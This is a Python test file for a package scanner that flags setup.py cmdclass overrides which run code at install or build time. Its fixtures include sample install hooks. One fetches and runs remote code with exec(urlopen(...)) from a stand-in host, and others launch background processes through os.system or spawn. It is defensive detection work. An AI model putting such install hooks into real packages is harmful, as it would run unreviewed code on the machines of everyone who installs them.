"""Install-time commands: setup(cmdclass=...) replacing what an installer or a wheel build runs, and command
classes whose methods fetch, spawn or run code."""

from pypi_platform_tests.lib.scans.python_scan import found, scan


def test_build_py_and_build_overrides_count_as_install_commands_and_sdist_does_not():
    source = """
    from setuptools import setup
    setup(cmdclass={'build_py': Generate, 'build': Build, 'sdist': Release, 'build_ext': Ext})
    """
    (finding,) = scan(source, "pkg-1.0/setup.py")
    assert (finding.rule, finding.evidence) == (
        "install.cmdclass-override",
        "cmdclass replaces build, build_py",
    )


def test_install_cmdclass_runs_code_when_the_command_spawns_or_fetches():
    source = """
    import os
    from setuptools import setup
    from setuptools.command.install import install
    from setuptools.command.egg_info import egg_info
    from urllib.request import urlopen

    class PostInstall(install):
        def run(self):
            install.run(self)
            os.system('id')

    class Info(egg_info):
        def run(self):
            exec(urlopen('https://files.example/x.py').read())
            egg_info.run(self)

    setup(name='x', cmdclass={'install': PostInstall, 'egg_info': Info})
    """
    findings = [f for f in scan(source, "pkg-1.0/setup.py") if f.rule == "install.cmdclass-runs-code"]
    # at the cmdclass= keyword, and at each spawn, fetch or code run inside the commands
    assert [(f.line, f.evidence) for f in findings] == [
        (11, "cmdclass install: PostInstall calls os.system"),
        (15, "cmdclass egg_info: Info calls exec"),
        (15, "cmdclass egg_info: Info calls urllib.request.urlopen"),
        (18, "cmdclass egg_info: Info calls exec"),
    ]


def test_a_command_that_only_generates_files_is_only_an_override():
    source = """
    from setuptools import setup
    from setuptools.command.build_py import build_py

    class Generate(build_py):
        def run(self):
            with open('pkg/_version.py', 'w') as out:
                out.write('VERSION = 1')
            build_py.run(self)

    setup(cmdclass={'build_py': Generate})
    """
    assert [rule for rule, _ in found(source, "pkg-1.0/setup.py") if rule.startswith("install.")] == [
        "install.cmdclass-override"
    ]


def test_install_cmdclass_runs_code_in_a_class_made_with_type():
    source = """
    import os
    from setuptools import setup
    from setuptools.command.install import install
    Quiet = type('Quiet', (install,), {'run': lambda self: (os.system('python3 -m boot &'), install.run(self))})
    setup(name='x', cmdclass=dict(install=Quiet))
    """
    findings = [f for f in scan(source, "pkg-1.0/setup.py") if f.rule == "install.cmdclass-runs-code"]
    assert [(f.line, f.evidence) for f in findings] == [
        (5, "cmdclass install: Quiet calls os.system"),
        (6, "cmdclass install: Quiet calls os.system"),
    ]


def test_install_cmdclass_runs_code_through_the_commands_own_spawn():
    source = """
    import sys
    from setuptools import setup
    from setuptools.command.develop import develop

    class Boot(develop):
        def run(self):
            self.spawn([sys.executable, '-c', 'import boot'])
            develop.run(self)

    setup(cmdclass={'develop': Boot})
    """
    findings = [f for f in scan(source, "pkg-1.0/setup.py") if f.rule == "install.cmdclass-runs-code"]
    assert [(f.line, f.evidence) for f in findings] == [
        (8, "cmdclass develop: Boot calls self.spawn"),
        (11, "cmdclass develop: Boot calls self.spawn"),
    ]


def test_install_cmdclass_override_reported_at_the_cmdclass_keyword_not_the_setup_line():
    source = """
    from setuptools import setup
    from setuptools.command.install import install
    setup(
        name='x',
        version='1.0',
        cmdclass={'install': install},
    )
    """
    assert [
        (rule, line) for rule, line in found(source, "pkg-1.0/setup.py") if rule.startswith("install.")
    ] == [("install.cmdclass-override", 7)]
